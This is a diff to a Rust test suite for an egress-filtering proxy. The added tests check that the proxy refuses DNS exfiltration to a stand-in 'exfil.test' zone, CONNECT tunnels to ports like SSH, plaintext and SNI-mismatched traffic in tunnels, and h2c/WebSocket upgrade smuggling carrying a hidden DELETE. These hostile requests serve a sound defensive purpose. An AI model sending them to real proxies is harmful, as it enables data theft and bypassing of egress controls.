@@ -17,7 +17,35 @@ fn lo(n: u8) -> IpAddr {
     IpAddr::V4(Ipv4Addr::new(127, 0, 0, n))
 }
 
-fn spec(mode: Mode, rules: Vec<RuleSpec>, private: bool) -> PolicySpec {
+/// Every port. The test upstreams listen on ephemeral ports, and a rule
+/// without `ports` covers only the scheme's default port.
+fn any_port() -> Vec<u16> {
+    (1..=u16::MAX).collect()
+}
+
+/// `RuleSpec::for_hosts` on every port.
+fn on_any_port(hosts: &[&str], action: Outcome) -> RuleSpec {
+    RuleSpec {
+        ports: any_port(),
+        ..RuleSpec::for_hosts(hosts, action)
+    }
+}
+
+/// A policy for tests against upstreams on ephemeral ports: in
+/// `read_public`, what the mode allows on 80/443 (reads of any host) is
+/// allowed on every port by a rule, so those tests keep exercising
+/// everything else. `bare_spec` is the policy as given.
+fn spec(mode: Mode, mut rules: Vec<RuleSpec>, private: bool) -> PolicySpec {
+    if mode == Mode::ReadPublic {
+        rules.push(RuleSpec {
+            methods: vec!["GET".into(), "HEAD".into(), "OPTIONS".into()],
+            ..on_any_port(&["*"], Outcome::Allow)
+        });
+    }
+    bare_spec(mode, rules, private)
+}
+
+fn bare_spec(mode: Mode, rules: Vec<RuleSpec>, private: bool) -> PolicySpec {
     PolicySpec {
         mode,
         rules,
@@ -185,7 +213,7 @@ fn plain_http_get_is_forwarded_to_the_resolved_address_and_audited() {
         "no userinfo, no query"
     );
     assert_eq!(ev.decision, Some(Outcome::Allow));
-    assert_eq!(ev.reason.code(), "public_read");
+    assert_eq!(ev.reason.code(), "rule_allow");
 }
 
 #[test]
@@ -217,7 +245,7 @@ fn write_over_plain_http_is_denied_with_a_readable_reason() {
     let dns = DnsResponder::start();
     let up = Upstream::http(lo(3));
     dns.set("api.test", DnsAnswer::Fixed(vec![lo(3)]));
-    let rules = vec![RuleSpec::for_hosts(&["api.test"], Outcome::Allow)];
+    let rules = vec![on_any_port(&["api.test"], Outcome::Allow)];
     let p = start(
         spec(Mode::ReadPublic, rules, true),
         ProxyConfig::default(),
@@ -509,12 +537,12 @@ fn bad_client_tls_in_a_tunnel_is_audited_and_hurts_no_one_else() {
         .collect();
     assert!(
         tls.iter()
-            .any(|(r, d)| r == "malformed_request" && d.starts_with("client TLS: ")),
+            .any(|(r, d)| r == "tunnel_not_tls" && d.starts_with("not a TLS")),
         "{tls:?}"
     );
     assert!(
-        tls.iter()
-            .any(|(r, d)| r == "limit_exceeded" && d == "client TLS handshake timed out"),
+        tls.iter().any(|(r, d)| r == "tunnel_not_tls"
+            && d == "no complete ClientHello within 1s (0 bytes received)"),
         "{tls:?}"
     );
     assert_eq!(up.hits(), 1, "only the good request reached the upstream");
@@ -562,8 +590,8 @@ fn fully_allowed_host_is_tunnelled_blind_and_denied_host_refused_before_handshak
     let (dns, _ca, up, _d, up_ca, cfg) = https_setup(6);
     dns.set("blocked.test", DnsAnswer::Fixed(vec![lo(6)]));
     let rules = vec![
-        RuleSpec::for_hosts(&["secure.test"], Outcome::Allow),
-        RuleSpec::for_hosts(&["blocked.test"], Outcome::Deny),
+        on_any_port(&["secure.test"], Outcome::Allow),
+        on_any_port(&["blocked.test"], Outcome::Deny),
     ];
     let p = start(spec(Mode::ReadPublic, rules, true), cfg, &dns);
     // Tunnelled: the client sees the upstream's own certificate.
@@ -831,12 +859,12 @@ fn a_refusing_audit_sink_fails_closed() {
 }
 
 #[test]
-fn websocket_upgrade_passes_after_the_policy_check() {
+fn websocket_upgrade_passes_where_a_rule_allows_it() {
     let dns = DnsResponder::start();
     let up = Upstream::http(lo(12));
     dns.set("ws.test", DnsAnswer::Fixed(vec![lo(12)]));
     let p = start(
-        spec(Mode::ReadPublic, vec![], true),
+        spec(Mode::ReadPublic, vec![websocket_rule("ws.test")], true),
         ProxyConfig::default(),
         &dns,
     );
@@ -857,9 +885,18 @@ fn websocket_upgrade_passes_after_the_policy_check() {
     let mut echo = [0u8; 10];
     s.read_exact(&mut echo).expect("echo");
     assert_eq!(&echo, b"ping-frame");
+    let ev = last(&p.events(), "egress.request");
     assert_eq!(
-        last(&p.events(), "egress.request").resource,
-        format!("http://ws.test:{}/ws", up.port())
+        (
+            ev.resource.clone(),
+            ev.reason.code(),
+            detail(&ev, "upgrade")
+        ),
+        (
+            format!("http://ws.test:{}/ws", up.port()),
+            "rule_allow",
+            Some("websocket".to_owned())
+        )
     );
 }
 
@@ -970,7 +1007,7 @@ fn drain_finishes_the_request_in_flight_and_closes_idle_connections() {
     assert!(TcpStream::connect(addr).is_err(), "no longer accepting");
     let req = last(&sink.events(), "egress.request");
     assert_eq!(req.resource, format!("http://{up_addr}/slow"));
-    assert_eq!(req.reason.code(), "public_read");
+    assert_eq!(req.reason.code(), "rule_allow");
 }
 
 /// Regression: the HTTP layer cannot parse a percent-encoded host
@@ -1041,4 +1078,694 @@ fn exchange(addr: SocketAddr, head: &str) -> String {
     let mut buf = Vec::new();
     let _ = s.read_to_end(&mut buf);
     String::from_utf8_lossy(&buf).to_ascii_lowercase()
+}
+
+// ---------------------------------------------------------------------------
+// The transport holes of the outside review: names resolved although
+// refused (2), CONNECT ports and tunnel contents (3), upgrade smuggling (4),
+// 101 headers, query presence and aggregated failures (8).
+// ---------------------------------------------------------------------------
+
+/// Open a CONNECT tunnel: the proxy's answer head and the socket.
+fn open_tunnel(addr: SocketAddr, target: &str) -> (TcpStream, String) {
+    let mut s = TcpStream::connect(addr).expect("connect proxy");
+    s.set_read_timeout(Some(Duration::from_secs(10)))
+        .expect("timeout");
+    s.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
+        .expect("write CONNECT");
+    let mut head = Vec::new();
+    let mut byte = [0u8; 1];
+    while !head.ends_with(b"\r\n\r\n") {
+        match s.read(&mut byte) {
+            Ok(1) => head.push(byte[0]),
+            _ => break,
+        }
+    }
+    (s, String::from_utf8_lossy(&head).to_ascii_lowercase())
+}
+
+/// Read until the peer closes (or 10 s), lowercased.
+fn read_all(s: &mut impl Read) -> String {
+    let mut buf = Vec::new();
+    let _ = s.read_to_end(&mut buf);
+    String::from_utf8_lossy(&buf).to_ascii_lowercase()
+}
+
+/// A TLS client over `tcp` for `name`, trusting `ca_pem`.
+fn tls_client(
+    tcp: TcpStream,
+    name: &str,
+    ca_pem: &str,
+) -> rustls::StreamOwned<rustls::ClientConnection, TcpStream> {
+    use rustls::pki_types::CertificateDer;
+    use rustls::pki_types::pem::PemObject;
+    let mut roots = rustls::RootCertStore::empty();
+    for c in CertificateDer::pem_slice_iter(ca_pem.as_bytes()) {
+        roots.add(c.expect("pem")).expect("root");
+    }
+    let mut cfg = rustls::ClientConfig::builder_with_provider(Arc::new(
+        rustls::crypto::aws_lc_rs::default_provider(),
+    ))
+    .with_safe_default_protocol_versions()
+    .expect("versions")
+    .with_root_certificates(roots)
+    .with_no_client_auth();
+    cfg.alpn_protocols = vec![b"http/1.1".to_vec()];
+    let server = rustls::pki_types::ServerName::try_from(name.to_owned()).expect("name");
+    let conn = rustls::ClientConnection::new(Arc::new(cfg), server).expect("client");
+    rustls::StreamOwned::new(conn, tcp)
+}
+
+/// The egress decisions recorded for `action` with `reason`.
+fn decisions(p: &Running, action: &str, reason: &str) -> Vec<AuditEvent> {
+    p.events()
+        .into_iter()
+        .filter(|e| e.action == action && e.reason.code() == reason)
+        .collect()
+}
+
+/// Wait (≤ 5 s) until `f` holds: audit records of a tunnel land after its
+/// socket closes.
+fn eventually(mut f: impl FnMut() -> bool) -> bool {
+    (0..500).any(|_| {
+        let ok = f();
+        if !ok {
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        ok
+    })
+}
+
+fn detail(ev: &AuditEvent, key: &str) -> Option<String> {
+    ev.details
+        .get(key)
+        .and_then(|v| v.as_str())
+        .map(str::to_owned)
+}
+
+#[test]
+fn refused_names_are_never_resolved_dns_exfiltration() {
+    let dns = DnsResponder::start();
+    let up = Upstream::http(lo(40));
+    dns.set("docs.test", DnsAnswer::Fixed(vec![lo(40)]));
+    let rules = vec![RuleSpec {
+        methods: vec!["GET".into()],
+        ..on_any_port(&["docs.test"], Outcome::Allow)
+    }];
+    let p = start(
+        bare_spec(Mode::DenyAll, rules, true),
+        ProxyConfig::default(),
+        &dns,
+    );
+    // The attack: data in a name under the attacker's zone.
+    let leak = "c2vjcmv0lwrhdge.exfil.test";
+    let resp = exchange(
+        p.addr,
+        &format!("GET http://{leak}/ HTTP/1.1\r\nHost: {leak}\r\nConnection: close\r\n\r\n"),
+    );
+    assert!(resp.starts_with("http/1.1 403"), "{resp}");
+    assert!(resp.contains("x-airlock-reason: deny_all"), "{resp}");
+    let ev = last(&p.events(), "egress.request");
+    assert_eq!(
+        (ev.resource.as_str(), ev.decision, ev.reason.code()),
+        (
+            format!("http://{leak}/").as_str(),
+            Some(Outcome::Deny),
+            "deny_all"
+        )
+    );
+    let (_s, head) = open_tunnel(p.addr, &format!("{leak}:443"));
+    assert!(head.starts_with("http/1.1 403"), "{head}");
+    assert!(head.contains("x-airlock-reason: deny_all"), "{head}");
+    let ev = last(&p.events(), "egress.connect");
+    assert_eq!(
+        (ev.resource, ev.reason.code()),
+        (format!("{leak}:443"), "deny_all")
+    );
+    // A method no rule allows on an allowed host: refused on its facts.
+    let resp = exchange(
+        p.addr,
+        &format!(
+            "DELETE http://docs.test:{}/x HTTP/1.1\r\nHost: docs.test\r\nConnection: close\r\n\r\n",
+            up.port()
+        ),
+    );
+    assert!(resp.contains("x-airlock-reason: deny_all"), "{resp}");
+    assert_eq!(dns.queries(leak), 0, "no DNS query for a refused name");
+    assert_eq!(dns.queries("docs.test"), 0);
+    // The legitimate request is resolved and served.
+    let r = curl(&p, &[&format!("http://docs.test:{}/ok", up.port())]);
+    assert_eq!(r.status, 200, "{}", r.stderr);
+    assert!(dns.queries("docs.test") >= 1);
+
+    // read_public: a write, or a read on a port the mode does not cover.
+    let p = start(
+        bare_spec(Mode::ReadPublic, vec![], true),
+        ProxyConfig::default(),
+        &dns,
+    );
+    for (req, reason) in [
+        ("POST http://w.exfil.test/ HTTP/1.1", "default_deny"),
+        ("GET http://p.exfil.test:8080/ HTTP/1.1", "port_not_allowed"),
+    ] {
+        let resp = exchange(
+            p.addr,
+            &format!("{req}\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
+        );
+        assert!(
+            resp.contains(&format!("x-airlock-reason: {reason}")),
+            "{req}: {resp}"
+        );
+        assert_eq!(last(&p.events(), "egress.request").reason.code(), reason);
+    }
+    let (_s, head) = open_tunnel(p.addr, "c.exfil.test:8443");
+    assert!(
+        head.contains("x-airlock-reason: port_not_allowed"),
+        "{head}"
+    );
+    for name in ["w.exfil.test", "p.exfil.test", "c.exfil.test"] {
+        assert_eq!(dns.queries(name), 0, "{name} was resolved");
+    }
+}
+
+#[test]
+fn connect_to_a_port_no_rule_covers_is_refused_before_dialing() {
+    let dns = DnsResponder::start();
+    // A plaintext service on a non-HTTPS port of an allowed host.
+    let up = Upstream::http(lo(41));
+    dns.set("api.test", DnsAnswer::Fixed(vec![lo(41)]));
+    let rules = vec![RuleSpec {
+        schemes: vec![airlock_policy::Scheme::Https],
+        ..RuleSpec::for_hosts(&["api.test"], Outcome::Allow)
+    }];
+    let p = start(
+        bare_spec(Mode::ReadPublic, rules, true),
+        ProxyConfig::default(),
+        &dns,
+    );
+    for port in [up.port(), 22, 25, 8080] {
+        let (mut s, head) = open_tunnel(p.addr, &format!("api.test:{port}"));
+        assert!(head.starts_with("http/1.1 403"), "{port}: {head}");
+        assert!(
+            head.contains("x-airlock-reason: port_not_allowed"),
+            "{port}: {head}"
+        );
+        // The plaintext write that used to follow the CONNECT.
+        let _ = s.write_all(b"POST /admin HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\n\r\n");
+        let ev = last(&p.events(), "egress.connect");
+        assert_eq!(
+            (ev.resource, ev.decision, ev.reason.code()),
+            (
+                format!("api.test:{port}"),
+                Some(Outcome::Deny),
+                "port_not_allowed"
+            )
+        );
+    }
+    assert_eq!(up.connections(), 0, "nothing was dialed");
+    assert_eq!(up.hits(), 0);
+    assert_eq!(dns.queries("api.test"), 0, "refused on the port alone");
+}
+
+#[test]
+fn plaintext_in_a_blind_tunnel_is_refused_as_tunnel_not_tls() {
+    let dns = DnsResponder::start();
+    let up = Upstream::http(lo(42));
+    dns.set("api.test", DnsAnswer::Fixed(vec![lo(42)]));
+    // HTTPS-only, every method and path on this port: a blind tunnel.
+    let rules = vec![RuleSpec {
+        schemes: vec![airlock_policy::Scheme::Https],
+        ports: vec![up.port()],
+        ..RuleSpec::for_hosts(&["api.test"], Outcome::Allow)
+    }];
+    let mut cfg = ProxyConfig::default();
+    cfg.timeouts.tls_handshake = Duration::from_millis(500);
+    let p = start(bare_spec(Mode::DenyAll, rules, true), cfg, &dns);
+    let target = format!("api.test:{}", up.port());
+
+    // 1. A plaintext HTTP write inside the tunnel.
+    let (mut s, head) = open_tunnel(p.addr, &target);
+    assert!(head.starts_with("http/1.1 200"), "{head}");
+    assert_eq!(
+        detail(&last(&p.events(), "egress.connect"), "mode").as_deref(),
+        Some("tunnel")
+    );
+    s.write_all(b"POST /admin HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1\r\n\r\nx")
+        .expect("write");
+    let answer = read_all(&mut s);
+    assert!(answer.starts_with("http/1.1 403"), "{answer}");
+    assert!(
+        answer.contains("x-airlock-reason: tunnel_not_tls"),
+        "{answer}"
+    );
+    // 2. Another protocol (an SSH banner).
+    let (mut s, _) = open_tunnel(p.addr, &target);
+    s.write_all(b"SSH-2.0-OpenSSH_9.6\r\n").expect("write");
+    assert_eq!(read_all(&mut s), "", "closed without relaying");
+    // 3. A server-speaks-first protocol: the client waits for a banner.
+    let (mut s, _) = open_tunnel(p.addr, &target);
+    assert_eq!(read_all(&mut s), "", "closed after the bounded wait");
+
+    assert!(eventually(|| decisions(&p, "egress.tls", "tunnel_not_tls")
+        .len()
+        == 3));
+    for ev in decisions(&p, "egress.tls", "tunnel_not_tls") {
+        assert_eq!(
+            (ev.resource.as_str(), ev.decision, detail(&ev, "mode")),
+            (target.as_str(), Some(Outcome::Deny), Some("tunnel".into()))
+        );
+    }
+    assert_eq!(up.hits(), 0, "no plaintext byte reached the upstream");
+}
+
+#[test]
+fn tls_for_another_name_in_a_blind_tunnel_is_sni_mismatch() {
+    let dns = DnsResponder::start();
+    let ca = TestCa::new();
+    let up = Upstream::https(lo(43), &ca, &["api.test", "other.test"]);
+    dns.set("api.test", DnsAnswer::Fixed(vec![lo(43)]));
+    let dir = tempfile::tempdir().expect("tmp");
+    let up_ca = ca.write_pem(dir.path(), "up-ca.pem");
+    let rules = vec![RuleSpec {
+        schemes: vec![airlock_policy::Scheme::Https],
+        ports: vec![up.port()],
+        ..RuleSpec::for_hosts(&["api.test"], Outcome::Allow)
+    }];
+    let p = start(
+        bare_spec(Mode::DenyAll, rules, true),
+        ProxyConfig::default(),
+        &dns,
+    );
+    // The legitimate case: TLS to the CONNECT host passes the blind tunnel.
+    let r = curl(
+        &p,
+        &[
+            "--cacert",
+            &ca_arg(&up_ca),
+            "-X",
+            "POST",
+            "-d",
+            "z",
+            &format!("https://api.test:{}/w", up.port()),
+        ],
+    );
+    assert_eq!(r.status, 200, "{}", r.stderr);
+    assert_eq!(json(&r.body)["method"], "POST");
+    let hits = up.hits();
+    // The attack: CONNECT to the allowed host, TLS to another name.
+    let (s, head) = open_tunnel(p.addr, &format!("api.test:{}", up.port()));
+    assert!(head.starts_with("http/1.1 200"), "{head}");
+    let mut tls = tls_client(s, "other.test", ca.cert_pem());
+    let sent = tls.write_all(b"GET /steal HTTP/1.1\r\nHost: other.test\r\n\r\n");
+    let mut buf = Vec::new();
+    assert!(
+        sent.is_err() || tls.read_to_end(&mut buf).is_err() || buf.is_empty(),
+        "the handshake must not complete"
+    );
+    assert!(eventually(
+        || !decisions(&p, "egress.tls", "sni_mismatch").is_empty()
+    ));
+    let ev = last(&p.events(), "egress.tls");
+    assert_eq!(
+        (ev.resource, ev.decision, ev.reason.code()),
+        (
+            format!("api.test:{}", up.port()),
+            Some(Outcome::Deny),
+            "sni_mismatch"
+        )
+    );
+    assert_eq!(up.hits(), hits);
+}
+
+#[test]
+fn plaintext_in_an_intercepted_tunnel_is_refused_as_tunnel_not_tls() {
+    let (dns, _ca, up, _d, _up_ca, cfg) = https_setup(44);
+    let p = start(spec(Mode::ReadPublic, vec![], true), cfg, &dns);
+    let target = format!("secure.test:{}", up.port());
+    let (mut s, head) = open_tunnel(p.addr, &target);
+    assert!(head.starts_with("http/1.1 200"), "{head}");
+    assert_eq!(
+        detail(&last(&p.events(), "egress.connect"), "mode").as_deref(),
+        Some("intercept")
+    );
+    s.write_all(b"GET / HTTP/1.1\r\nHost: secure.test\r\n\r\n")
+        .expect("write");
+    let answer = read_all(&mut s);
+    assert!(
+        answer.contains("x-airlock-reason: tunnel_not_tls"),
+        "{answer}"
+    );
+    assert!(eventually(|| !decisions(
+        &p,
+        "egress.tls",
+        "tunnel_not_tls"
+    )
+    .is_empty()));
+    let ev = last(&p.events(), "egress.tls");
+    assert_eq!(
+        (ev.resource.clone(), ev.decision, detail(&ev, "mode")),
+        (target, Some(Outcome::Deny), Some("intercept".into()))
+    );
+    assert_eq!(up.hits(), 0);
+}
+
+/// An HTTP/1.1 request on an intercepted tunnel to `secure.test`: the
+/// answer, lowercased.
+fn inside_tunnel(p: &Running, port: u16, request: &str) -> String {
+    let (s, head) = open_tunnel(p.addr, &format!("secure.test:{port}"));
+    assert!(head.starts_with("http/1.1 200"), "{head}");
+    let pem = std::fs::read_to_string(&p.ca_path).expect("proxy ca");
+    let mut tls = tls_client(s, "secure.test", &pem);
+    tls.write_all(request.as_bytes()).expect("write");
+    let mut buf = vec![0u8; 4096];
+    let n = tls.read(&mut buf).unwrap_or(0);
+    String::from_utf8_lossy(&buf[..n]).to_ascii_lowercase()
+}
+
+#[test]
+fn h2c_upgrade_smuggling_is_refused_plain_and_in_a_tunnel() {
+    let (dns, _ca, up, _d, _up_ca, cfg) = https_setup(45);
+    let plain = Upstream::http(lo(45));
+    dns.set("ws.test", DnsAnswer::Fixed(vec![lo(45)]));
+    // Every method allowed on both hosts, but no rule allows WebSocket.
+    let rules = vec![
+        on_any_port(&["ws.test"], Outcome::Allow),
+        on_any_port(&["secure.test"], Outcome::Allow),
+    ];
+    let mut s = bare_spec(Mode::ReadPublic, rules, true);
+    s.inspect_all = true;
+    let p = start(s, cfg, &dns);
+    for (upgrade, connection) in [
+        ("h2c", "Upgrade, HTTP2-Settings"),
+        ("websocket", "Upgrade"),
+        ("websocket, h2c", "upgrade"),
+        ("H2C", "keep-alive, UPGRADE"),
+    ] {
+        let resp = exchange(
+            p.addr,
+            &format!(
+                "GET http://ws.test:{port}/ws HTTP/1.1\r\nHost: ws.test:{port}\r\nConnection: {connection}\r\nUpgrade: {upgrade}\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nDELETE /all HTTP/1.1\r\nHost: ws.test\r\nConnection: close\r\n\r\n",
+                port = plain.port()
+            ),
+        );
+        assert!(resp.starts_with("http/1.1 403"), "{upgrade}: {resp}");
+        assert!(
+            resp.contains("x-airlock-reason: upgrade_refused"),
+            "{upgrade}: {resp}"
+        );
+        let ev = decisions(&p, "egress.request", "upgrade_refused")
+            .pop()
+            .expect("audited");
+        assert_eq!(
+            (ev.decision, detail(&ev, "upgrade")),
+            (Some(Outcome::Deny), Some(upgrade.to_owned()))
+        );
+    }
+    assert_eq!(
+        plain.hits(),
+        0,
+        "neither the upgrade nor the DELETE arrived"
+    );
+
+    // The same inside an intercepted tunnel, and a CONNECT inside it.
+    let port = up.port();
+    let resp = inside_tunnel(
+        &p,
+        port,
+        &format!(
+            "GET /ws HTTP/1.1\r\nHost: secure.test:{port}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
+        ),
+    );
+    assert!(resp.starts_with("http/1.1 403"), "{resp}");
+    assert!(resp.contains("x-airlock-reason: upgrade_refused"), "{resp}");
+    let resp = inside_tunnel(
+        &p,
+        port,
+        &format!("CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: secure.test:{port}\r\n\r\n"),
+    );
+    assert!(resp.contains("x-airlock-reason: upgrade_refused"), "{resp}");
+    let inner = decisions(&p, "egress.request", "upgrade_refused");
+    assert!(
+        inner
+            .iter()
+            .filter(|e| detail(e, "via").as_deref() == Some("intercepted_tunnel"))
+            .count()
+            >= 2,
+        "{inner:#?}"
+    );
+    assert_eq!(up.hits(), 0);
+}
+
+/// A raw upstream on `ip` that answers every request with `answer` and
+/// then echoes bytes.
+fn raw_upstream(ip: IpAddr, answer: &'static str) -> SocketAddr {
+    let l = std::net::TcpListener::bind(SocketAddr::new(ip, 0)).expect("bind");
+    let addr = l.local_addr().expect("addr");
+    std::thread::spawn(move || {
+        for s in l.incoming() {
+            let Ok(mut s) = s else { return };
+            std::thread::spawn(move || {
+                let mut head = Vec::new();
+                let mut b = [0u8; 1];
+                while !head.ends_with(b"\r\n\r\n") && s.read(&mut b).unwrap_or(0) == 1 {
+                    head.push(b[0]);
+                }
+                let _ = s.write_all(answer.as_bytes());
+                let mut buf = [0u8; 1024];
+                while let Ok(n) = s.read(&mut buf) {
+                    if n == 0 || s.write_all(&buf[..n]).is_err() {
+                        break;
+                    }
+                }
+            });
+        }
+    });
+    addr
+}
+
+fn websocket_request(host: &str, port: u16) -> String {
+    format!(
+        "GET http://{host}:{port}/ws HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
+    )
+}
+
+fn websocket_rule(host: &str) -> RuleSpec {
+    RuleSpec {
+        methods: vec!["GET".into()],
+        paths: vec!["/ws".into()],
+        websocket: true,
+        ..on_any_port(&[host], Outcome::Allow)
+    }
+}
+
+#[test]
+fn an_upstream_switching_to_another_protocol_is_upgrade_mismatch() {
+    let dns = DnsResponder::start();
+    let up = raw_upstream(
+        lo(46),
+        "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: h2c\r\n\r\n",
+    );
+    dns.set("ws.test", DnsAnswer::Fixed(vec![lo(46)]));
+    let p = start(
+        bare_spec(Mode::DenyAll, vec![websocket_rule("ws.test")], true),
+        ProxyConfig::default(),
+        &dns,
+    );
+    let resp = exchange(p.addr, &websocket_request("ws.test", up.port()));
+    assert!(resp.starts_with("http/1.1 502"), "{resp}");
+    assert!(
+        resp.contains("x-airlock-reason: upgrade_mismatch"),
+        "{resp}"
+    );
+    let ev = last(&p.events(), "egress.upgrade");
+    assert_eq!(
+        (ev.resource, ev.decision, ev.reason.code()),
+        (
+            format!("http://ws.test:{}/ws", up.port()),
+            Some(Outcome::Deny),
+            "upgrade_mismatch"
+        )
+    );
+}
+
+#[test]
+fn a_101_echoing_a_secret_has_its_headers_scrubbed() {
+    use airlock_types::{RunId, Secret};
+    use airlock_vault::{Binding, Broker, Grant, RunLimits};
+    let dns = DnsResponder::start();
+    let up = raw_upstream(
+        lo(47),
+        "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\nX-Echo: Bearer real-value-0123456789abcdef\r\n\r\n",
+    );
+    dns.set("ws.test", DnsAnswer::Fixed(vec![lo(47)]));
+    let broker = Arc::new(Broker::new());
+    let run = RunId::new("run-101").expect("id");
+    let binding = Binding::new(
+        "TOK",
+        vec!["ws.test".into()],
+        None,
+        None,
+        vec![],
+        vec![],
+        None,
+    )
+    .expect("binding");
+    broker
+        .start_run(
+            &run,
+            vec![Grant::new(
+                "TOK",
+                binding,
+                Secret::new("real-value-0123456789abcdef".to_owned()),
+            )],
+            RunLimits::default(),
+        )
+        .expect("run");
+    let policy = EgressPolicy::compile(bare_spec(
+        Mode::DenyAll,
+        vec![websocket_rule("ws.test")],
+        true,
+    ))
+    .expect("policy");
+    let cfg = ProxyConfig {
+        resolver: ResolverSettings::NameServers(vec![dns.addr()]),
+        ..ProxyConfig::default()
+    };
+    let sink = Arc::new(MemorySink::new());
+    let s2: Arc<dyn EventSink> = sink.clone();
+    let (tx, rx) = std::sync::mpsc::channel();
+    let (_stop, stop_rx) = tokio::sync::oneshot::channel::<()>();
+    std::thread::spawn(move || {
+        let rt = tokio::runtime::Builder::new_multi_thread()
+            .worker_threads(2)
+            .enable_all()
+            .build()
+            .expect("rt");
+        rt.block_on(async move {
+            let proxy =
+                Proxy::with_credentials(cfg, Arc::new(policy), s2, run, broker).expect("proxy");
+            let l = tokio::net::TcpListener::bind("127.0.0.1:0")
+                .await
+                .expect("bind");
+            let _ = tx.send(l.local_addr().expect("addr"));
+            let _ = proxy
+                .serve(l, async {
+                    let _ = stop_rx.await;
+                })
+                .await;
+        });
+    });
+    let addr = rx.recv().expect("proxy");
+    let mut s = TcpStream::connect(addr).expect("connect");
+    s.set_read_timeout(Some(Duration::from_secs(5)))
+        .expect("timeout");
+    s.write_all(websocket_request("ws.test", up.port()).as_bytes())
+        .expect("write");
+    let mut buf = [0u8; 1024];
+    let n = s.read(&mut buf).expect("read 101");
+    let head = String::from_utf8_lossy(&buf[..n]).to_string();
+    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
+    assert!(head.contains("Bearer [SECRET:TOK]"), "{head}");
+    assert!(!head.contains("real-value"), "{head}");
+    assert_eq!(
+        sink.events()
+            .iter()
+            .filter(|e| e.action == "egress.request")
+            .map(|e| e.reason.code())
+            .collect::<Vec<_>>(),
+        vec!["rule_allow"]
+    );
+}
+
+#[test]
+fn egress_records_say_a_query_was_present_never_its_text() {
+    let dns = DnsResponder::start();
+    let up = Upstream::http(lo(48));
+    dns.set("api.test", DnsAnswer::Fixed(vec![lo(48)]));
+    let p = start(
+        spec(Mode::ReadPublic, vec![], true),
+        ProxyConfig::default(),
+        &dns,
+    );
+    let r = curl(
+        &p,
+        &[&format!(
+            "http://api.test:{}/q?token=s3cret-text",
+            up.port()
+        )],
+    );
+    assert_eq!(r.status, 200, "{}", r.stderr);
+    let ev = last(&p.events(), "egress.request");
+    assert_eq!(detail(&ev, "query").as_deref(), Some("true"));
+    assert!(!format!("{ev:?}").contains("s3cret"), "{ev:?}");
+    let r = curl(&p, &[&format!("http://api.test:{}/q", up.port())]);
+    assert_eq!(r.status, 200);
+    assert_eq!(detail(&last(&p.events(), "egress.request"), "query"), None);
+}
+
+#[test]
+fn a_flood_of_malformed_connections_is_aggregated_never_lost() {
+    let dns = DnsResponder::start();
+    let p = start(
+        spec(Mode::ReadPublic, vec![], true),
+        ProxyConfig::default(),
+        &dns,
+    );
+    const N: usize = 1000;
+    let started = Instant::now();
+    for i in 0..N {
+        let mut s = TcpStream::connect(p.addr).expect("connect");
+        s.write_all(b"GARBAGE\r\n\r\n").expect("write");
+        s.set_read_timeout(Some(Duration::from_secs(5)))
+            .expect("timeout");
+        let mut buf = [0u8; 64];
+        let n = s.read(&mut buf).unwrap_or(0);
+        // Every refusal is still answered.
+        assert!(buf[..n].starts_with(b"HTTP/1.1 400"), "connection {i}");
+    }
+    // A different failure in the same seconds is never merged into them.
+    let resp = exchange(p.addr, "GET /not-absolute HTTP/1.1\r\nHost: x\r\n\r\n");
+    assert!(resp.starts_with("http/1.1 400"), "{resp}");
+    let malformed = |p: &Running| -> Vec<AuditEvent> {
+        p.events()
+            .into_iter()
+            .filter(|e| e.action == "egress.connection" && e.reason.code() == "malformed_request")
+            .collect()
+    };
+    let count = |evs: &[AuditEvent]| -> u64 {
+        evs.iter()
+            .map(|e| {
+                e.details
+                    .get("repeated")
+                    .and_then(|r| r.as_u64())
+                    .unwrap_or(1)
+            })
+            .sum()
+    };
+    // The repeats are reported once their window has closed.
+    assert!(
+        eventually(|| count(&malformed(&p)) == N as u64),
+        "counted {} of {N}",
+        count(&malformed(&p))
+    );
+    let evs = malformed(&p);
+    let windows = started.elapsed().as_secs() + 2;
+    assert!(
+        evs.len() as u64 <= 2 * windows,
+        "{} records for {N} identical failures in {:?}",
+        evs.len(),
+        started.elapsed()
+    );
+    assert_eq!(
+        (
+            evs[0].resource.as_str(),
+            detail(&evs[0], "detail").as_deref()
+        ),
+        ("client 127.0.0.1", Some("malformed request"))
+    );
+    assert_eq!(
+        decisions(&p, "egress.request", "malformed_request").len(),
+        1,
+        "the other failure kept its own record"
+    );
 }
